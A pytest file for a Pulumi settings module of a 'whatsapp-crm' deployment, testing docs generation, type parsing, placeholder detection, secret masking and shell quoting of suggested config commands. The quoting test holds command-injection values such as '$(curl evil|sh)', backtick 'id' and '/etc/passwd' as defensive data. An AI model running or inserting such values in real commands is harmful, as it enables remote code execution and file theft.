"""Settings that are right, the reference that is generated from them, and what must never show a secret."""

from __future__ import annotations

import asyncio
import json
import string
from collections.abc import Callable, Mapping
from dataclasses import dataclass, fields, is_dataclass
from typing import Any, get_type_hints

import pulumi
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from pulumi.runtime.config import set_all_config

from railway.validation import SETTABLE_VARIABLES
from settings import reference
from settings.keys import NAMESPACE, ValueType, keys_of, setting
from settings.load import load_settings
from settings.model import KEYS, RailwaySettings, Settings
from settings.parsing import mapping
from settings.problems import Problem, render
from settings.reader import remove_command, set_command
from tests import bad_settings
from tests.bad_settings import ROOT, Bad
from user_errors import shell_word

pytestmark = pytest.mark.unit

Stack = Callable[[Mapping[str, str], list[str]], pulumi.Config]


def load(stack: Stack, **config: object) -> Settings:
    secret = ("adminToken",) if "adminToken" in config else ()
    values, keys = bad_settings.stack_config(Bad(name="", key="", fix="", config=config, secret=secret))
    found, problems = load_settings(stack(values, keys), "sandbox", bad_settings.ENVIRON)
    assert problems == []
    assert found is not None
    return found


def test_the_generated_files_are_current() -> None:
    """When this fails: make docs."""
    written = reference.PULUMI_YAML.read_text(encoding="utf-8")
    assert written == reference.pulumi_yaml(written)
    assert reference.PAGE.read_text(encoding="utf-8") == reference.settings_page()


def test_pulumi_yaml_declares_every_key_with_its_type_and_default() -> None:
    project = mapping(yaml.safe_load((ROOT / "Pulumi.yaml").read_text(encoding="utf-8"))) or {}
    assert project["name"] == NAMESPACE
    declared = mapping(project["config"]) or {}
    assert list(declared) == list(KEYS)
    for name, key in KEYS.items():
        entry = mapping(declared[name]) or {}
        assert entry.get("type") == reference.yaml_type(key), name
        assert entry["default"] == key.default, name
        assert str(entry["description"]).startswith(key.description), name
    assert mapping(declared["healthTimeout"]) == {
        "description": "How long Railway waits for the health path to return 200. From 1 to 3600 seconds. "
        "If not set: the value in railway.toml, or 300.",
        "default": "",
    }


def test_the_page_of_settings_has_a_row_for_every_key() -> None:
    page = reference.settings_page()
    rows = [line.split("`")[1] for line in page.splitlines() if line.startswith("| `")]
    assert sorted(rows) == sorted(KEYS)
    required = page.partition("## Required\n")[2].partition("\n## ")[0]
    assert {line.split("`")[1] for line in required.splitlines() if line.startswith("| `")} == {
        "appDir",
        "googleProject",
        "firestoreLocation",
        "railwayWorkspaceId",
        "repo",
    }
    assert (
        "| `ipv6Egress` | boolean | the value in `railway.toml`, or `false` | Whether the backend can "
        "open connections over IPv6. |"
    ) in page


def test_every_key_is_described_in_whole_sentences() -> None:
    for name, key in KEYS.items():
        assert key.description[0].isupper(), name
        assert key.description.endswith((".", "'")), name


def test_one_field_is_a_key() -> None:
    """Its name and kind follow from the field; a misspelt option is an error where it is written."""

    @dataclass(frozen=True, kw_only=True)
    class Section:
        retry_after_seconds: int | None = setting("How long to wait.", low=0, high=60, unit="seconds")

    (key,) = keys_of(Section)
    assert (key.name, key.value_type, key.optional) == ("retryAfterSeconds", ValueType.INTEGER, True)
    assert Section().retry_after_seconds is None
    with pytest.raises(TypeError, match="lowest"):
        setting("How long to wait.", lowest=0)  # pyright: ignore[reportCallIssue]


@pytest.mark.parametrize("name", ["Pulumi.sandbox.yaml", "Pulumi.prod.yaml"])
def test_a_stack_file_sets_known_keys_and_no_plain_secret(name: str) -> None:
    text = (ROOT / name).read_text(encoding="utf-8")
    config = mapping((mapping(yaml.safe_load(text)) or {})["config"]) or {}
    ours = [key.removeprefix(f"{NAMESPACE}:") for key in config if key.startswith(f"{NAMESPACE}:")]
    assert set(ours) <= set(KEYS)
    assert config["pulumi:disable-default-providers"] == ["gcp"]
    secrets = mapping(config.get(f"{NAMESPACE}:secrets", {})) or {}
    assert all(set(mapping(value) or {}) == {"secure"} for value in secrets.values())


def test_a_command_quotes_what_the_shell_would_read() -> None:
    """A placeholder stays readable."""
    begin = f"pulumi config set {NAMESPACE}:railwayServiceName"
    for value, shown in {
        "backend": "backend", "my backend": "'my backend'", "$HOME": "'$HOME'", "it's": "'it'\"'\"'s'",
        "<your own name>": "<your own name>", "<https://a.example>": "<https://a.example>", "": "",
        "<$(curl evil|sh)>": "'<$(curl evil|sh)>'", "<`id`>": "'<`id`>'", "<a>;<b>": "'<a>;<b>'",
        "<a\nb>": "'<a\nb>'", "<it's>": "'<it'\"'\"'s>'", "</etc/passwd>": "'</etc/passwd>'",
    }.items():  # fmt: skip
        assert set_command("railwayServiceName", value) == f"{begin} {shown}".rstrip()
    assert set_command("region", "a", ".it's") == (
        f"pulumi config set --path --type string '{NAMESPACE}:region.it'\"'\"'s' a"
    )
    assert remove_command("my region") == f"pulumi config rm '{NAMESPACE}:my region'"


def test_no_placeholder_of_a_key_is_quoted() -> None:
    examples = [str(key.example) for key in KEYS.values() if str(key.example).startswith("<")]
    assert len(examples) > 3
    assert [shell_word(text) for text in examples] == examples


def test_a_placeholder_says_what_is_expected(stack: Stack) -> None:
    values = {
        "region": "your-functions-region",
        "customDomain": "your-domain",
        "railwayWorkspaceId": "00000000-0000-4000-8000-000000000000",
    }
    _, problems = load_settings(
        stack({f"{NAMESPACE}:{name}": value for name, value in values.items()}, []),
        "prod",
        bad_settings.ENVIRON,
    )
    region, domain, workspace = (
        next(one for one in problems if one.key.endswith(f":{name}")) for name in values
    )
    assert "is a placeholder" in workspace.what
    assert region.what.endswith(f"is a placeholder. {KEYS['region'].summary}")
    assert KEYS["region"].summary in f"{KEYS['region'].description} "
    assert region.fix == f"pulumi config set {NAMESPACE}:region <your own value>"
    assert domain.fix.endswith(f"\nor:  pulumi config rm {NAMESPACE}:customDomain")


def test_every_placeholder_of_the_production_file_is_refused_by_name(stack: Stack) -> None:
    text = (ROOT / "Pulumi.prod.yaml").read_text(encoding="utf-8")
    config = mapping((mapping(yaml.safe_load(text)) or {})["config"]) or {}
    values = {key: value if isinstance(value, str) else json.dumps(value) for key, value in config.items()}
    _, problems = load_settings(stack(values, []), "prod", bad_settings.ENVIRON)
    refused = {problem.key for problem in problems if "is a placeholder" in problem.what}
    assert refused == {key for key, value in config.items() if str(value).startswith("your-")}
    assert refused == {
        f"{NAMESPACE}:{name}"
        for name in (
            "googleProject",
            "region",
            "firestoreLocation",
            "railwayWorkspaceId",
            "railwayRegion",
            "repo",
            "rootDirectory",
            "volumeSizeGb",
        )
    }
    others = {problem.key for problem in problems} - refused
    assert others == {f"{NAMESPACE}:appDir"}  # ./app is the app's place in production


def test_railway_variables_that_users_set_are_accepted(stack: Stack) -> None:
    """As numbers, too, which `pulumi config set --path` makes of them."""
    plain = {name for name in SETTABLE_VARIABLES if not name.endswith("TOKEN")}
    assert "RAILWAY_RUN_UID" in plain
    found = load(stack, backendVariables=dict.fromkeys(plain, 0))
    assert found.backend.variables == dict.fromkeys(plain, "0")


def test_values_arrive_with_their_types(stack: Stack) -> None:
    found = load(
        stack,
        volumeSizeGb="0.5",
        targetPort="8080",
        backendVariables={"LOG_LEVEL": "info", "TRACE": True, "LIMIT": 3},
        backendRoles=["roles/datastore.user", "projects/crm-sandbox/roles/sessions"],
        backfillCount="0",
        syncFullHistory="false",
        startCommand="node src/server.js",
    )
    assert found.railway.volume_size_gb == 0.5
    assert found.railway.target_port == 8080
    assert found.backend.variables == {"LOG_LEVEL": "info", "TRACE": "true", "LIMIT": "3"}
    assert found.google.backend_roles[1] == "projects/crm-sandbox/roles/sessions"
    assert found.backend.backfill_count == 0
    assert found.backend.sync_full_history is False
    assert found.railway.start_command == "node src/server.js"
    assert found.railway.build_command is None
    assert found.railway.overlap_seconds is None
    assert found.app_dir == ROOT / "examples" / "crm"
    assert not found.production


@pytest.mark.parametrize(("said", "found"), [(None, False), ("true", True), ("false", False)])
def test_outgoing_ipv6_is_off_unless_it_is_set(stack: Stack, said: str | None, found: bool) -> None:
    assert load(stack, ipv6Egress=said).railway.ipv6_egress is found


def test_a_choice_may_be_written_in_any_letter_case(stack: Stack) -> None:
    found = load(
        stack, builder="nixpacks", restartPolicy="always", volumeBackups=["weekly"], railwayPlan="Pro"
    )
    railway = found.railway
    assert (railway.builder, railway.restart_policy, railway.plan) == ("NIXPACKS", "ALWAYS", "pro")
    assert railway.volume_backups == ("WEEKLY",)


def test_an_adopted_project_needs_no_workspace(stack: Stack) -> None:
    found = load(stack, railwayProjectId="b7d1c0de-0000-4000-8000-000000000002", railwayWorkspaceId=None)
    assert found.railway.project_id == "b7d1c0de-0000-4000-8000-000000000002"


@pytest.mark.parametrize("stack_name", ["prod", "production", "company/whatsapp-crm/prod"])
def test_a_stack_named_production_is_production(stack: Stack, stack_name: str) -> None:
    values, keys = bad_settings.stack_config(Bad(name="", key="", fix=""))
    found, _ = load_settings(stack(values, keys), stack_name, bad_settings.ENVIRON)
    assert found is not None
    assert found.production


def test_repr_shows_no_secret(stack: Stack) -> None:
    found = load(
        stack, adminToken="admin-token-of-this-test", backendVariables={"SENTRY": "variable-of-this-test"}
    )
    shown = repr(found) + str(found.secrets) + repr(found.backend)
    for value in (*bad_settings.SECRETS.values(), "admin-token-of-this-test", "variable-of-this-test"):
        assert value not in shown


def test_secret_values_are_secret_outputs(stack: Stack) -> None:
    async def read() -> tuple[bool, str | None]:
        found = load(stack, adminToken="admin-token-of-this-test")
        assert found.backend.admin_token is not None
        assert await found.backend.admin_token.is_secret()
        output = found.secrets.values["GROQ_API_KEY"]
        return await output.is_secret(), await output.future()

    found = asyncio.get_event_loop().run_until_complete(read())
    assert found == (True, bad_settings.SECRETS["GROQ_API_KEY"])


def test_a_wrong_type_under_a_key_stored_as_secret_is_masked(stack: Stack) -> None:
    bad = Bad(name="", key="", fix="", config={"replicas": "hunter2"}, secret=("replicas",))
    values, keys = bad_settings.stack_config(bad)
    _, problems = load_settings(stack(values, keys), "sandbox", bad_settings.ENVIRON)
    assert [problem.key for problem in problems] == ["whatsapp-crm:replicas"]
    assert "hunter2" not in render(problems)


def test_all_problems_are_numbered_in_one_text() -> None:
    text = render(
        [Problem(key="a", what="is wrong.", fix="correct a"), Problem(key="b", what="too.", fix="correct b")]
    )
    assert text.splitlines() == [
        "2 problems in the settings or the app. Nothing was changed on Railway or Google.",
        "1. a: is wrong.",
        "    fix: correct a",
        "2. b: too.",
        "    fix: correct b",
    ]


def odd_types(section: Any) -> list[str]:
    """The fields of a settings dataclass whose value is not of the annotated type."""
    found: list[str] = []
    for name, hint in get_type_hints(type(section)).items():
        value = getattr(section, name)
        if is_dataclass(value):
            found += odd_types(value)
            continue
        options = {getattr(one, "__origin__", one) for one in getattr(hint, "__args__", ())}
        outer = getattr(hint, "__origin__", None)
        allowed: set[Any] = {outer} if outer in (tuple, Mapping, pulumi.Output) else (options or {hint})
        if not isinstance(value, (*allowed, *([int] if float in allowed else []))):
            found.append(name)
    return found


def test_the_defaults_have_the_annotated_types(stack: Stack) -> None:
    assert odd_types(RailwaySettings(repo="a/b")) == []
    assert odd_types(load(stack)) == []
    assert len(fields(RailwaySettings)) > 30


@given(
    config=st.dictionaries(
        st.sampled_from(sorted(KEYS)),
        st.one_of(
            st.text(alphabet=string.printable + "äß€\u2028", max_size=20),
            st.integers().map(str),
            st.sampled_from(["[]", "{}", "null", "true", '["a"]', '{"a": 1}', "NaN", "1e999", "-0", " "]),
        ),
        max_size=12,
    )
)
def test_no_config_makes_it_stumble(config: dict[str, str]) -> None:
    set_all_config({f"{NAMESPACE}:{name}": value for name, value in config.items()}, [])
    before = asyncio.get_event_loop()
    loop = asyncio.new_event_loop()
    asyncio.set_event_loop(loop)  # outputs are made of futures
    try:
        found, problems = load_settings(pulumi.Config(NAMESPACE), "sandbox", {})
    finally:
        set_all_config({}, [])
        loop.run_until_complete(asyncio.gather(*asyncio.all_tasks(loop)))
        loop.close()
        asyncio.set_event_loop(before)
    assert found is None or odd_types(found) == []
    assert problems
    for problem in problems:
        assert problem.key
        assert problem.what.endswith((".", "?"))
        assert problem.fix


def test_what_no_client_may_delete(stack: Stack) -> None:
    google = load(stack).google
    assert google.never_delete == ("clients", "threads", "**/messages")
    assert google.allow_client_deletes == {}
    exceptions = {"drafts/{d}/messages": "drafts are private"}
    own = load(stack, neverDelete=["orders", "orders/{id}/lines"], allowClientDeletes=exceptions)
    assert own.google.never_delete == ("orders", "orders/{id}/lines")
    assert own.google.allow_client_deletes == exceptions
    assert own.warnings == ()


def test_protecting_nothing_and_removing_the_rules_are_warnings_with_a_fix(stack: Stack) -> None:
    empty, removal = load(stack, neverDelete=[], allowRulesRemoval=True).warnings[::-1]
    assert "neverDelete: is empty: no collection is protected" in empty
    assert "fix: pulumi config rm whatsapp-crm:neverDelete" in empty
    assert "allowRulesRemoval: is true" in removal
    assert "fix: pulumi config rm whatsapp-crm:allowRulesRemoval  # after this pulumi up" in removal
